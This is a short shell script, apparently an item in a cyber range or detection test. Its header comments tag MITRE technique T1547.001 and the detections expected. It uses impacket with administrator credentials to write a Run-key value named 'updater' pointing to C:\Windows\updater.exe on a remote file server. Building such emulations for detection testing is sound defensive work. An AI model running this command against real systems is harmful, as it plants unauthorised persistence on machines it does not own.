# SPDX-License-Identifier: Apache-2.0
# what: a Run key written on another machine
# technique: T1547.001
# from: ws1
# to: fs1
# account: Administrator
# outcome: attempt
# must: finding rpc,discover
. "$RANGE_HERE/item.sh"
impacket reg "CORP/Administrator:$ADMIN_PASSWORD@$fs1" add -keyName 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run' -v updater -vt REG_SZ -vd 'C:\Windows\updater.exe'
true
